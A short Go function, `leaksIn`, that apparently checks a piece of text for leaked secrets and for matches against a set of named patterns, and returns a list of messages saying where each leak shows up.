func leaksIn(place string, text []byte, secrets []secret) []string {
	shown := leaks(map[string][]byte{place: text}, secrets)
	for what, pattern := range told {
		if pattern.Match(text) {
			shown = append(shown, place+" shows "+what)
		}
	}
	return shown
}
